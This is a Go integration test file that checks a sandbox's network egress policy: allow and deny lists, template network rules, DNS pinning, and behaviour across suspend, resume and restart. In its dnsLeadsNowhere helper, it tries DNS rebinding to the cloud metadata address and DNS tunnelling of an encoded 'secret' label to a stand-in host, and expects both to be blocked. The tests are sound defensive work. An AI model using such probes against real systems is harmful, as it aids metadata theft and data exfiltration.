package node

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
	"sigs.k8s.io/yaml"

	agents "github.com/barchan-dev/barchan/api/agents/v1beta1"
	"github.com/barchan-dev/barchan/internal/base/errs"
	"github.com/barchan-dev/barchan/internal/base/sandbox"
	"github.com/barchan-dev/barchan/internal/node/egress"
	"github.com/barchan-dev/barchan/internal/node/journal"
	"github.com/barchan-dev/barchan/internal/testkit/eventually"
	"github.com/barchan-dev/barchan/internal/testkit/ownnet"
)

// inOwnNet is ownnet.Inside with what these tests need.
func inOwnNet(t *testing.T) bool {
	t.Helper()
	needRoot(t)
	need(t, "containerd")
	agentProgram(t)
	return ownnet.Inside(t)
}

// startInternet makes a namespace that has all public addresses, a server that sends hello on
// port 80 of each of them, and a DNS server on port 53.
func startInternet(t *testing.T, zone map[string]string) (asked func(name string) bool) {
	t.Helper()
	var names sync.Map
	answers := map[string]dns.RR{}
	for name, address := range zone {
		rr, err := dns.NewRR(name + " 5 IN A " + address)
		must(t, err)
		answers[name] = rr
	}
	handler := dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		a := new(dns.Msg).SetReply(q)
		names.Store(strings.ToLower(q.Question[0].Name), true)
		if rr := answers[q.Question[0].Name]; rr == nil {
			a.Rcode = dns.RcodeNameError
		} else if q.Question[0].Qtype == dns.TypeA {
			a.Answer = append(a.Answer, rr)
		}
		_ = w.WriteMsg(a)
	})
	// A process that does nothing holds the namespace.
	holder := exec.CommandContext(t.Context(), need(t, "sleep"), "infinity")
	holder.SysProcAttr = &syscall.SysProcAttr{Unshareflags: unix.CLONE_NEWNET}
	must(t, holder.Start())
	t.Cleanup(func() {
		_ = holder.Process.Kill()
		_ = holder.Wait()
	})
	pid := fmt.Sprint(holder.Process.Pid)
	for _, args := range []string{
		"ip link set lo up", "ip link add up0 type veth peer name net0 netns " + pid, "ip addr add 11.0.0.1/30 dev up0", "ip link set up0 up",
		"ip route add default via 11.0.0.2",
		"nsenter --net=/proc/" + pid + "/ns/net ip addr add 11.0.0.2/30 dev net0", "nsenter --net=/proc/" + pid + "/ns/net ip link set net0 up",
		"nsenter --net=/proc/" + pid + "/ns/net ip link set lo up", "nsenter --net=/proc/" + pid + "/ns/net ip route add local 0.0.0.0/0 dev lo",
	} {
		words := strings.Fields(args)
		if out, err := exec.CommandContext(t.Context(), need(t, words[0]), words[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%s: %v: %s", args, err, out)
		}
	}
	web, questions := listenIn(t, "/proc/"+pid+"/ns/net")
	server := &dns.Server{PacketConn: questions, Handler: handler}
	go func() { _ = server.ActivateAndServe() }()
	go func() {
		for {
			c, err := web.Accept()
			if err != nil {
				return
			}
			go func() {
				_, _ = c.Read(make([]byte, 1024))
				_, _ = fmt.Fprint(c, "HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nhello")
				_ = c.Close()
			}()
		}
	}()
	t.Cleanup(func() {
		_ = web.Close()
		_ = questions.Close()
	})
	return func(name string) bool {
		_, ok := names.Load(name)
		return ok
	}
}

// listenIn opens the internet's sockets in its namespace.
func listenIn(t *testing.T, path string) (web net.Listener, questions net.PacketConn) {
	t.Helper()
	done := make(chan error)
	go func() {
		runtime.LockOSThread() // not unlocked: the thread ends here
		ns, err := os.Open(path)
		if err == nil {
			defer func() { _ = ns.Close() }()
			err = unix.Setns(int(ns.Fd()), unix.CLONE_NEWNET)
		}
		if err == nil {
			web, err = (&net.ListenConfig{}).Listen(t.Context(), "tcp4", ":80")
		}
		if err == nil {
			questions, err = (&net.ListenConfig{}).ListenPacket(t.Context(), "udp4", ":53")
		}
		done <- err
	}()
	must(t, <-done)
	return web, questions
}

// fetched is what a sandbox gets from port 80 of an address. It waits long only for what is to come.
func fetched(t *testing.T, n *Node, s *agents.Sandbox, address string, comes bool) string {
	t.Helper()
	wait := 5
	if comes {
		wait = int(patience)
	}
	out, _ := run(t, n, s, fmt.Sprintf("echo | nc -w %d %s 80", wait, address))
	return out
}

// resolved is the answer to a sandbox's question about a name; a question may get lost.
func resolved(t *testing.T, n *Node, s *agents.Sandbox, name string) (out string) {
	t.Helper()
	eventually.True(t, "an answer about "+name, func() bool {
		out, _ = run(t, n, s, "busybox nslookup "+name)
		return !strings.Contains(out, "no servers could be reached")
	})
	return out
}

func setNetwork(s *agents.Sandbox, p *agents.EgressPolicy) *agents.Sandbox {
	s.Spec.Barchan = &agents.BarchanSpec{Network: p}
	return s
}

func closedBut(allow ...string) *agents.EgressPolicy {
	no := false
	return &agents.EgressPolicy{Internet: &no, AllowOut: allow}
}

// A real sandbox, from its start over changes, sleep and a restart of the server to its end.
func TestSandboxReachesWhatItsObjectSays(t *testing.T) {
	t.Parallel()
	if !inOwnNet(t) {
		return
	}
	asked := startInternet(t, map[string]string{
		"www.example.com.": "5.5.5.5", "other.com.": "6.6.6.6", "rebind.example.com.": "169.254.169.254", "host.example.com.": "10.0.0.1",
	})
	m := newMachine(t)
	m.cfg.Network.Resolvers = []netip.Addr{netip.MustParseAddr("9.9.9.9")}
	n, stop := m.node()
	s := setNetwork(object(), closedBut("*.example.com", "7.7.7.7"))
	ensure(t, n, s)
	reaches := func(address string, want bool) {
		t.Helper()
		out := fetched(t, n, s, address, want)
		if strings.Contains(out, "hello") != want {
			t.Errorf("%s: %q, reached should be %t", address, out, want)
		}
	}
	finds := func(name, want string) {
		t.Helper()
		out := resolved(t, n, s, name)
		if strings.Contains(out, want) == (want == "") {
			t.Errorf("%s: %q, want %q", name, out, want)
		}
	}
	traced := func(dest string, port uint16, verdict egress.Verdict, rule string) {
		t.Helper()
		d, err := n.TraceEgress(t.Context(), sandbox.IDOf(s.UID), egress.Query{Destination: dest, Port: port, Protocol: "tcp"})
		if err != nil || d.Verdict != verdict || !strings.Contains(d.Rule, rule) {
			t.Errorf("trace of %s: %+v, %v; want %s by %s", dest, d, err, verdict, rule)
		}
	}
	if out, _ := run(t, n, s, "cat /etc/resolv.conf"); out != "nameserver "+n.network.Gateway().String()+"\nnameserver 9.9.9.9\n" {
		t.Errorf("resolv.conf: %q", out)
	}
	reaches("7.7.7.7", true)
	reaches("5.5.5.5", false)
	traced("5.5.5.5", 80, egress.Refused, "internet: false")
	traced("www.example.com", 80, egress.Allowed, "when the sandbox resolves it")
	eventually.True(t, "a name is found", func() bool {
		out, _ := run(t, n, s, "busybox nslookup www.example.com")
		return strings.Contains(out, "5.5.5.5")
	})
	reaches("5.5.5.5", true)
	finds("www.example.com 8.8.8.8", "5.5.5.5") // from any server
	finds("other.com", "NXDOMAIN")
	finds("other.com 8.8.8.8", "NXDOMAIN")
	reaches("6.6.6.6", false)
	traced("www.example.com", 80, egress.Allowed, "pinned to 5.5.5.5")
	traced("5.5.5.5", 80, egress.Allowed, "allowOut[0] *.example.com, whose www.example.com is pinned to 5.5.5.5")
	traced("other.com", 80, egress.Refused, "no entry of allowOut")
	traced("169.254.169.254", 80, egress.Refused, "metadata")
	traced(n.network.Gateway().String(), 80, egress.Refused, "machine itself")
	dnsLeadsNowhere(t, n, s, asked)

	// Another server takes over; what the sandbox may reach is as it was before it responds.
	stop()
	n, _ = m.node()
	reaches("5.5.5.5", true)
	reaches("6.6.6.6", false)
	traced("5.5.5.5", 80, egress.Allowed, "pinned")

	// Changes while it runs.
	must(t, n.SetEgress(t.Context(), setNetwork(s, nil)))
	reaches("6.6.6.6", true)
	traced("other.com", 80, egress.Allowed, "6.6.6.6 allowed: public addresses are open")
	must(t, n.SetEgress(t.Context(), setNetwork(s, &agents.EgressPolicy{DenyOut: []string{"6.0.0.0/8"}})))
	reaches("6.6.6.6", false)
	reaches("5.5.5.5", true)
	finds("other.com", "6.6.6.6")
	traced("6.6.6.6", 80, egress.Refused, "denyOut[0] 6.0.0.0/8")

	// Changes while it is paused, in memory.
	_, err := n.Suspend(t.Context(), refOf(s), agents.SuspendMemory)
	must(t, err)
	must(t, n.SetEgress(t.Context(), setNetwork(s, closedBut("6.6.6.6"))))
	_, err = n.Resume(t.Context(), refOf(s), false)
	must(t, err)
	reaches("6.6.6.6", true)
	reaches("5.5.5.5", false)
	finds("other.com", "NXDOMAIN")

	if err := n.SetEgress(t.Context(), setNetwork(s, &agents.EgressPolicy{DenyOut: []string{"nonsense"}})); err == nil || !strings.Contains(err.Error(), "denyOut[0]") {
		t.Errorf("a policy that cannot be: %v", err)
	}
	if _, err := n.TraceEgress(t.Context(), sandbox.IDOf(s.UID), egress.Query{Destination: "no name!", Port: 80, Protocol: "tcp"}); !errors.Is(err, errs.ErrInvalid) {
		t.Errorf("trace of no destination: %v", err)
	}
	goesWithoutATrace(t, n, s)
	if ids, err := n.network.EgressRules(t.Context()); err != nil || len(ids) > 0 {
		t.Errorf("rules left: %v, %v", ids, err)
	}
}

// dnsLeadsNowhere has a sandbox that may look up *.example.com try ways in and out by DNS.
func dnsLeadsNowhere(t *testing.T, n *Node, s *agents.Sandbox, asked func(name string) bool) {
	t.Helper()
	// An allowed name that leads inside (DNS rebinding) has no address.
	for name, inside := range map[string]string{"rebind.example.com": "169.254.169.254", "host.example.com": "10.0.0.1"} {
		if out := resolved(t, n, s, name); strings.Contains(out, inside) {
			t.Errorf("%s leads to %s: %q", name, inside, out)
		}
		if !asked(name + ".") {
			t.Errorf("no server was asked for %s", name)
		}
	}
	// A name that is not allowed carries nothing out (DNS tunnelling), by whatever server and type.
	for i, ask := range []string{"%s", "%s 8.8.8.8", "-type=TXT %s", "-type=CNAME %s 8.8.8.8"} {
		name := fmt.Sprintf("c2VjcmV0-%d.tunnel.other.com", i)
		question := "busybox nslookup " + fmt.Sprintf(ask, name)
		run(t, n, s, question)
		if asked(name + ".") {
			t.Errorf("%q reached a server outside", question)
		}
	}
}

// withRules gives an object the egress rules of a template's networkPolicy.
func withRules(t *testing.T, s *agents.Sandbox, own *agents.EgressPolicy, rules string) *agents.Sandbox {
	t.Helper()
	s = setNetwork(s.DeepCopy(), own)
	s.Spec.Barchan.NetworkPolicy = &agents.NetworkPolicy{}
	must(t, yaml.UnmarshalStrict([]byte("egress: "+rules), s.Spec.Barchan.NetworkPolicy))
	return s
}

// A real sandbox of a template with a networkPolicy, and of its claim.
func TestSandboxIsKeptWithinItsTemplatesRules(t *testing.T) {
	t.Parallel()
	if !inOwnNet(t) {
		return
	}
	startInternet(t, map[string]string{"www.example.com.": "5.5.5.5", "other.com.": "6.6.6.6"})
	m := newMachine(t)
	m.cfg.Network.Resolvers = []netip.Addr{netip.MustParseAddr("9.9.9.9")}
	n, stop := m.node()
	s := object()
	const web = `[{to: [{ipBlock: {cidr: 0.0.0.0/0, except: [6.0.0.0/8]}}], ports: [{port: 80}, {protocol: UDP, port: 53}]}]`
	ensure(t, n, withRules(t, s, nil, web))
	reaches := func(address string, want bool) {
		t.Helper()
		out := fetched(t, n, s, address, want)
		if strings.Contains(out, "hello") != want {
			t.Errorf("%s: %q, reached should be %t", address, out, want)
		}
	}
	finds := func(name, want string) {
		t.Helper()
		out := resolved(t, n, s, name)
		if !strings.Contains(out, want) {
			t.Errorf("%s: %q, want %q", name, out, want)
		}
	}
	traced := func(dest string, port uint16, verdict egress.Verdict, rule string) {
		t.Helper()
		d, err := n.TraceEgress(t.Context(), sandbox.IDOf(s.UID), egress.Query{Destination: dest, Port: port, Protocol: "tcp"})
		if err != nil || d.Verdict != verdict || !strings.Contains(d.Rule, rule) {
			t.Errorf("trace of %s: %+v, %v; want %s by %s", dest, d, err, verdict, rule)
		}
	}
	kept := func() {
		t.Helper()
		reaches("5.5.5.5", true)
		reaches("6.6.6.6", false)
		finds("other.com", "6.6.6.6")
		traced("5.5.5.5", 80, egress.Allowed, "networkPolicy.egress[0].to[0] 0.0.0.0/0, tcp 80")
		traced("5.5.5.5", 443, egress.Refused, "networkPolicy.egress allows nothing else")
		traced("6.6.6.6", 80, egress.Refused, "networkPolicy.egress allows nothing else")
	}
	eventually.True(t, "names are answered", func() bool {
		out, _ := run(t, n, s, "busybox nslookup www.example.com")
		return strings.Contains(out, "5.5.5.5")
	})
	kept()
	stop() // the journal has the rules
	n, _ = m.node()
	kept()

	// A claim closes more, and opens nothing.
	must(t, n.SetEgress(t.Context(), withRules(t, s, closedBut("www.example.com", "6.6.6.6"), web)))
	finds("www.example.com", "5.5.5.5")
	finds("other.com", "NXDOMAIN")
	reaches("5.5.5.5", true)
	reaches("6.6.6.6", false)
	reaches("7.7.7.7", false)
	traced("7.7.7.7", 80, egress.Refused, "internet: false")

	// Rules without DNS.
	must(t, n.SetEgress(t.Context(), withRules(t, s, nil, `[{ports: [{port: 80}]}]`)))
	reaches("6.6.6.6", true)
	finds("www.example.com", "NXDOMAIN")
	finds("www.example.com 8.8.8.8", "NXDOMAIN")
	traced("www.example.com", 80, egress.Refused, "opens no DNS")

	must(t, n.SetEgress(t.Context(), withRules(t, s, nil, `[]`)))
	reaches("5.5.5.5", false)
	if err := n.SetEgress(t.Context(), withRules(t, s, nil, `[{ports: [{port: https}]}]`)); err == nil || !strings.Contains(err.Error(), "networkPolicy.egress[0].ports[0].port") {
		t.Errorf("rules that cannot be kept: %v", err)
	}
	goesWithoutATrace(t, n, s)
	if ids, err := n.network.EgressRules(t.Context()); err != nil || len(ids) > 0 {
		t.Errorf("rules left: %v, %v", ids, err)
	}
}

// What changes while a sandbox's memory is on disk is in force before it wakes.
func TestStoredSandboxWakesWithItsPolicy(t *testing.T) {
	t.Parallel()
	if !inOwnNet(t) {
		return
	}
	startInternet(t, nil)
	m := newMachine(t)
	n, _ := m.node(func(c *Config) { c.StoreAfter = time.Millisecond })
	s := object()
	ensure(t, n, s)
	_, err := n.Suspend(t.Context(), refOf(s), agents.SuspendMemory)
	must(t, err)
	eventually.True(t, "it is on disk", func() bool { return n.handles.Lookup(s.UID).Row().Stage == journal.Stored })
	must(t, n.SetEgress(t.Context(), setNetwork(s, closedBut("7.7.7.7"))))
	if ids, err := n.network.EgressRules(t.Context()); err != nil || len(ids) > 0 {
		t.Errorf("rules of what is on disk: %v, %v", ids, err)
	}
	_, err = n.Resume(t.Context(), refOf(s), false)
	must(t, err)
	for address, want := range map[string]bool{"7.7.7.7": true, "6.6.6.6": false} {
		if out := fetched(t, n, s, address, want); strings.Contains(out, "hello") != want {
			t.Errorf("%s: %q, reached should be %t", address, out, want)
		}
	}
	goesWithoutATrace(t, n, s)
}
